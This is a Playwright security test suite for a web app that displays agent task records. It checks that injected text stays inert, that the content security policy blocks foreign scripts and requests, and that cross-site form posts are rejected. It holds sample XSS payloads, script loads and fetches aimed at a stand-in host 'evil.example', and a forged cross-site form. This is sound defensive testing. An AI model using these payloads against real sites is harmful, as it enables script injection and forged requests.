"""Text from agents stays text, and only our own page has and can use its session."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from tests.web.conftest import Site, call
from tests.web.stories import PAYLOADS

TABS = ("story", "timeline", "memory", "work", "thread", "packet", "time")
# Elements that our page never has: inline code, foreign frames and images, handlers, external links.
STRANGE = """() => [...document.querySelectorAll(
    'script:not([src^="/assets/"]), iframe, object, embed, base, link:not([href^="/assets/"]), b, [onerror],'
    + '[onload], img:not([src$="favicon.svg"]), a[href^="javascript"],'
    + 'a[href^="http"]:not([href^="' + location.origin + '"])'
)].map(node => node.outerHTML)"""


def test_hostile_texts_are_inert_on_every_screen(site, visit):
    window = visit(site)
    foreign = []
    page = window.page
    page.on("request", lambda one: one.url.startswith(site.url) or foreign.append(one.url))
    page.on("dialog", lambda dialog: foreign.append(dialog.message))
    task = site.ids["hostile"]
    places = ["/", "/search?q=hacked", "/recovery", "/system", *(f"/task/{task}?tab={tab}" for tab in TABS)]
    places.append(f"/task/{site.ids['hostile_goal']}")
    for place in [*places, f"/task/{task}?tab=timeline&seq=9", f"/?text={PAYLOADS[1]}", f"/{PAYLOADS[1]}"]:
        window.open(place)
        expect(page.locator(".loading")).to_have_count(0)
        if place.startswith(("/task", "/search")):
            expect(page.locator("main")).to_contain_text("window.hacked")
        for button in page.locator(".step .title, .variable button, .hit-line").all()[:4]:
            button.click()
        assert page.evaluate(STRANGE) == [], place
        assert page.evaluate("window.hacked") is None, place
    assert foreign == []


def visible(text):
    """Text as the page shows it, with invisible characters spelled out."""
    return re.sub("[\x1b\u202a-\u202e]", lambda found: f"⟨U+{ord(found[0]):04X}⟩", text)


def test_hostile_text_is_shown_verbatim(site, visit):
    page = visit(site).open(f"/task/{site.ids['hostile']}?tab=thread")
    page.locator(".message").first.wait_for()
    written = page.get_by_role("button", name="as written")
    for _ in range(written.count()):
        written.first.click()  # its name is another one then
    shown = page.locator(".message .recorded").all_text_contents()
    for text in PAYLOADS:
        assert visible(text) in shown


def test_the_content_security_policy_blocks_foreign_code_and_requests(site, visit):
    """A positive control: the policy itself blocks what our code never does."""
    window = visit(site)
    page = window.open()
    for attempt in (
        "document.body.innerHTML = '<img src=x onerror=hacked()>'",
        "document.createElement('script').text = 'window.hacked = 1'",
        "document.createElement('script').src = 'https://evil.example/x.js'",
        "document.body.setAttribute('onclick', 'window.hacked = 1')",
    ):
        tried = f"() => {{ try {{ {attempt}; return 'done' }} catch {{ return 'stopped' }} }}"
        assert page.evaluate(tried) == "stopped", attempt
    picture = "new Promise(done => Object.assign(new Image(), {onload: done, onerror: () => done('stopped'),"
    assert page.evaluate(picture + " src: 'https://evil.example/x.png'}))") == "stopped"
    assert page.evaluate("fetch('https://evil.example/').then(() => 'done', () => 'stopped')") == "stopped"
    assert page.evaluate("window.hacked") is None
    assert page.evaluate("document.cookie") == ""
    assert window.complaints  # the browser reports the violations
    window.complaints.clear()


@pytest.mark.parametrize("path", ["api/task_register", "api/session"])
def test_another_page_cannot_write_and_gets_no_session(site, visit, browser, path):
    """A form on another port of the same host, to which the browser would send cookies along."""
    import http.server
    import threading

    form = f"""<form method=post enctype=text/plain action="{site.url}{path}">
        <input name='{{"name":"forged","a":"' value='"}}'></form>
        <script>document.forms[0].submit()</script>""".encode()

    received = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            received.append(str(self.headers))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(form)

        def log_message(self, *words):
            pass

    before = len(call(site, "task_list", token="read", status="all", workspace="*")["tasks"])
    with http.server.HTTPServer(("127.0.0.1", 0), Handler) as evil:
        thread = threading.Thread(target=evil.serve_forever)
        thread.start()
        try:
            window = visit(site)
            session = window.page.evaluate("sessionStorage.getItem('ringbolt.session')")
            page = window.page.context.new_page()
            with page.expect_response(f"**/{path}") as answered:
                page.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
            assert answered.value.status == 403
            assert page.evaluate("Object.keys(sessionStorage).length") == 0
        finally:
            evil.shutdown()
            thread.join()
    assert len(call(site, "task_list", token="read", status="all", workspace="*")["tasks"]) == before

    assert received
    assert session
    for told in received:
        assert session not in told
        assert "cookie:" not in told.lower()


def test_the_session_is_in_the_tab_and_in_no_cookie_and_ends_with_signing_out(site, visit):
    page = visit(site).open()
    assert page.context.cookies() == []
    session = page.evaluate("sessionStorage.getItem('ringbolt.session')")
    assert not any(token in session for token in site.tokens.values())
    page.reload()
    expect(page.locator("header.bar")).to_be_visible()  # a reload keeps it
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("Token")).to_be_visible()
    page.evaluate("session => sessionStorage.setItem('ringbolt.session', session)", session)
    page.reload()
    expect(page.get_by_label("Token")).to_be_visible()


def test_a_wrong_token_shows_an_error_and_what_to_do(site, visit):
    page = visit(site, kind=None).page
    page.goto(site.url)
    page.get_by_label("Token").fill("rb_user_wrong")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_contain_text("no_token")
    expect(page.get_by_role("alert")).to_contain_text("Copy one from the file")


def test_a_sign_in_link_signs_one_window_in_and_leaves_no_code_behind(tmp_path, visit):
    site = Site(tmp_path / "site")
    site.start("--as-user")
    try:
        link = site.sign_in_link()
        first, second = (visit(site, kind=None).page for _ in range(2))
        first.goto(link)
        expect(first.locator("header.bar")).to_contain_text("user")
        assert first.url == f"{site.url}#/"
        first.go_back()
        assert "sign-in" not in first.url
        second.goto(link)
        expect(second.get_by_text("used before")).to_be_visible()
        expect(second.get_by_label("Token")).to_be_visible()
        second.evaluate("() => { location.hash = '#/sign-in/wrong' }")  # in an open page, too
        expect(second).to_have_url(f"{site.url}#/")
    finally:
        site.stop()
